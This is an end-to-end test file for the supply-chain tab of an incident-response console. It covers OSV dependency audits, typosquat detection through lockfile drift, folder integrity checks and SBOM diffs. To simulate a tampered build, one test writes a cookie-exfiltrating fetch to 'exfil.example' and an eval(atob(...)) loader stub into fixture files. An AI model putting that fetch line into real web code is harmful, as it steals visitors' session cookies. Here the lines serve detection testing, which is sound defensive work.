import fs from 'node:fs';
import path from 'node:path';
import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openConsolePage, screenSizes, screensDir, screenshotThemes, type ConsolePage } from '../support/browser';
import { apiCall, repoRoot, tempDataDir, type ServedConsole } from '../support/consoleServer';

let session: ConsolePage;
let served: ServedConsole;
let work: string;
let page: Page;
let pageErrors: string[];
const shotsDir = path.join(screensDir, 'supply');
const fixtures = path.join(repoRoot, 'test', 'fixtures', 'supply', 'ui');
const current = path.join(fixtures, 'current', 'package-lock.json');
const knownGood = path.join(fixtures, 'baseline', 'package-lock.json');
const osv = path.join(fixtures, 'osv');

beforeAll(async () => {
  work = tempDataDir('firebreak-e2e-supply-');
  session = await openConsolePage(path.join(work, 'data'), screenSizes[0]);
  ({ served, page, pageErrors } = session);
  await page.goto(served.url);
  await page.getByRole('heading', { name: 'Open incidents' }).waitFor();
});
afterAll(async () => {
  await session.close();
  fs.rmSync(work, { recursive: true, force: true });
});

/** The finding row of a package and advisory. */
function findingRow(findings: Locator, text: RegExp): Locator {
  return findings.locator('tr.finding').filter({ hasText: text });
}

describe('the Supply chain tab', () => {
  it('audits a lockfile against an OSV folder from the tab: findings grouped by severity, with their fixed versions', async () => {
    const { body } = await apiCall(served, 'incident.declare', { title: 'lodash advisory on the shop API', severity: 'P2', scenario: 'vulnerable-dependency' });
    const id = body.value.id as string;
    await page.evaluate((incident) => (location.hash = `#/incident/${incident}`), id);
    await page.getByRole('region', { name: 'Checklist' }).waitFor();
    // The playbook's dependency step opens this tab, not the Scans tab.
    await page.getByRole('button', { name: 'Scan: dependencies →' }).first().click();
    const supply = page.getByRole('region', { name: 'Supply chain' });
    await supply.waitFor();
    expect(await page.getByRole('tab', { name: 'Supply chain' }).getAttribute('aria-selected')).toBe('true');
    // A fresh laptop: the database line says what to do before anything is audited.
    await supply.getByRole('region', { name: 'Advisory database' }).getByText('No advisories imported: import an OSV all.zip or folder.').waitFor();
    await supply.getByText('No supply-chain checks for this incident yet.').waitFor();

    await supply.getByLabel('Lockfiles to audit, one a line').fill(current);
    await supply.getByLabel(/^Advisory folder or OSV all\.zip/).fill(osv);
    await supply.getByRole('button', { name: 'Run audit' }).click();
    const result = supply.getByRole('region', { name: 'Dependency audit result' });
    await result.getByText('4 advisories in 3 packages').waitFor();
    const findings = result.getByRole('table', { name: /^Findings by severity/ });
    expect(await findings.getAttribute('aria-label')).toBe('Findings by severity: 1 critical · 1 high · 1 medium · 1 unknown');
    // Headings in severity order, each with its count; the withdrawn advisory is nowhere.
    expect(await findings.locator('tr.severity-heading').allTextContents()).toEqual(['critical (1)', 'high (1)', 'medium (1)', 'unknown (1)']);
    expect(await findings.textContent()).not.toContain('GHSA-jf85-cpcp-j695');
    const minimist = findingRow(findings, /GHSA-xvch-5gv4-984h/);
    expect(await minimist.textContent()).toMatch(/minimist.*1\.2\.5.*CVE-2021-44906.*Prototype Pollution in minimist.*1\.2\.6.*mkdirp › minimist/);
    expect(await findingRow(findings, /GHSA-35jh-r3h4-6jhm/).locator('td.fixed-version').textContent()).toBe('4.17.21');
    expect(await findingRow(findings, /GHSA-29mw-wpgm-hmr9/).textContent()).toMatch(/lodash.*4\.17\.15.*CVE-2020-28500/);
    expect(await findingRow(findings, /MAL-2026-4121/).locator('td.no-fix').textContent()).toBe('no fix yet');
    // Rows follow the heading order: critical first.
    expect(await findings.locator('tbody tr').first().textContent()).toBe('critical (1)');
    await shots('audit', supply.getByRole('region', { name: 'Check result' }));

    // The known-good lockfile's fixed versions are not flagged.
    await supply.getByLabel('Lockfiles to audit, one a line').fill(knownGood);
    await supply.getByRole('button', { name: 'Run audit' }).click();
    await supply.getByRole('region', { name: 'Dependency audit result' }).getByText('No known advisories').waitFor();

    // Drift from the known-good lockfile: the typosquat from another host comes first, with why.
    await supply.getByRole('radio', { name: 'Lockfile drift' }).click();
    await supply.getByLabel('Known-good lockfile (baseline)').fill(knownGood);
    await supply.getByLabel('Current lockfile').fill(current);
    await supply.getByLabel('Current lockfile').press('Enter');
    const drift = supply.getByRole('region', { name: 'Lockfile drift result' });
    const suspicions = drift.getByRole('table', { name: 'Suspicions' });
    await suspicions.waitFor();
    const typosquat = suspicions.locator('tr.suspicion').filter({ hasText: 'typosquat-like name' });
    expect(await typosquat.textContent()).toMatch(/lodahs.*0\.0\.1.*lodash/);
    const changes = drift.getByRole('table', { name: 'Changes' });
    expect(await changes.locator('tbody tr.supply-row').first().textContent()).toMatch(/lodahs.*suspected/);
    await shots('drift', supply.getByRole('region', { name: 'Check result' }));

    // The checks are kept against the incident, newest first; the first audit opens again whole.
    const past = supply.getByRole('region', { name: 'Past checks' });
    const checks = past.getByRole('listitem');
    await expect.poll(() => checks.count()).toBe(3);
    expect(await checks.first().textContent()).toMatch(/^Lockfile drift/);
    await checks.last().getByRole('button').click();
    await supply.getByRole('region', { name: 'Dependency audit result' }).getByText('4 advisories in 3 packages').waitFor();
    expect(await checks.last().getByRole('button').getAttribute('aria-current')).toBe('true');

    // Importing the folder fills the database line.
    const database = supply.getByRole('region', { name: 'Advisory database' });
    await database.getByLabel(/^Import OSV advisories/).fill(osv);
    await database.getByRole('button', { name: 'Import' }).click();
    await database.getByText(/^Imported \d+ advisories/).waitFor();
    await database.getByText(/^\d+ advisories \(npm \d+\)/).waitFor();
    await shots('database', database);

    await page.getByRole('tab', { name: 'Response' }).click();
    // Each check is on the incident's timeline, in one line.
    await page.getByRole('list', { name: 'Timeline' }).getByText(/Dependency audit SC-[0-9a-f]{8}: 4 advisories in 3 packages/).waitFor();
    expect(pageErrors).toEqual([]);
  });
});

describe('the Supply chain tab from the palette', () => {
  it('checks a folder against its baseline (the tampered file first, with both hashes) and compares two SBOMs', async () => {
    const { body } = await apiCall(served, 'incident.declare', { title: 'Build output differs from the release', severity: 'P1', scenario: 'sbom-integrity-violation' });
    const id = body.value.id as string;
    const dist = path.join(work, 'dist');
    fs.mkdirSync(dist, { recursive: true });
    fs.writeFileSync(path.join(dist, 'app.js'), 'console.log("shop");\n');
    fs.writeFileSync(path.join(dist, 'README.txt'), 'release 2.3.0\n');
    const baseline = path.join(work, 'dist-baseline.json');
    expect((await apiCall(served, 'integrity.snapshot', { dir: dist, output: baseline })).body.ok).toBe(true);
    fs.writeFileSync(path.join(dist, 'app.js'), 'console.log("shop");fetch("https://exfil.example/"+document.cookie);\n');
    fs.writeFileSync(path.join(dist, 'loader.js'), 'eval(atob("..."));\n');

    await page.evaluate((incident) => (location.hash = `#/incident/${incident}`), id);
    await page.getByRole('region', { name: 'Checklist' }).waitFor();
    await page.keyboard.press('Control+k');
    const palette = page.getByRole('dialog', { name: 'Command palette' });
    await palette.getByRole('option', { name: /^Go to Supply chain/ }).click();
    const supply = page.getByRole('region', { name: 'Supply chain' });
    await supply.waitFor();
    // The checks are a radio group: the arrows move between them, as between the incident's tabs.
    await supply.getByRole('radio', { name: 'Dependency audit' }).focus();
    await page.keyboard.press('ArrowRight');
    await page.keyboard.press('ArrowRight');
    expect(await supply.getByRole('radio', { name: 'Integrity' }).getAttribute('aria-checked')).toBe('true');
    await supply.getByLabel('Folder to check').fill(dist);
    await supply.getByLabel(/^Baseline \(from firebreak integrity snapshot\)/).fill(baseline);
    await supply.getByRole('button', { name: 'Check integrity' }).click();
    const result = supply.getByRole('region', { name: 'Integrity result' });
    await result.getByText('2 files differ from the baseline').waitFor();
    const rows = result.getByRole('table', { name: 'Files that differ' }).locator('tbody tr.supply-row');
    expect(await rows.allTextContents()).toEqual([expect.stringMatching(/^changedapp\.js[0-9a-f]{12}… → [0-9a-f]{12}…$/), expect.stringMatching(/^addedloader\.js[0-9a-f]{12}…$/)]);
    await shots('integrity', supply.getByRole('region', { name: 'Check result' }));

    // Two SBOMs of the release and of what is deployed: the typosquat is a component added.
    const before = path.join(work, 'sbom-before.json');
    const after = path.join(work, 'sbom-after.json');
    expect((await apiCall(served, 'sbom.generate', { lockfile: knownGood, output: before })).body.ok).toBe(true);
    expect((await apiCall(served, 'sbom.generate', { lockfile: current, output: after })).body.ok).toBe(true);
    await supply.getByRole('radio', { name: 'SBOM diff' }).click();
    await supply.getByLabel('SBOM before (CycloneDX JSON)').fill(before);
    await supply.getByLabel('SBOM after').fill(after);
    await supply.getByRole('button', { name: 'Compare SBOMs' }).click();
    const sbom = supply.getByRole('region', { name: 'SBOM diff result' }).getByRole('table', { name: 'Component changes' });
    expect(await sbom.locator('tr.supply-row').filter({ hasText: 'lodahs' }).textContent()).toMatch(/^added.*lodahs.*new 0\.0\.1$/);
    expect(await sbom.locator('tr.supply-row').filter({ hasText: 'lodash' }).textContent()).toMatch(/^changed.*lodash.*4\.17\.21 → 4\.17\.15$/);
    await shots('sbom', supply.getByRole('region', { name: 'Check result' }));
    expect(pageErrors).toEqual([]);
  });
});

/** The window at both sizes in both themes, with `target` in view. */
async function shots(name: string, target: Locator): Promise<void> {
  await screenshotThemes(page, shotsDir, name, () => target.evaluate((element) => element.scrollIntoView({ block: 'start' })));
}
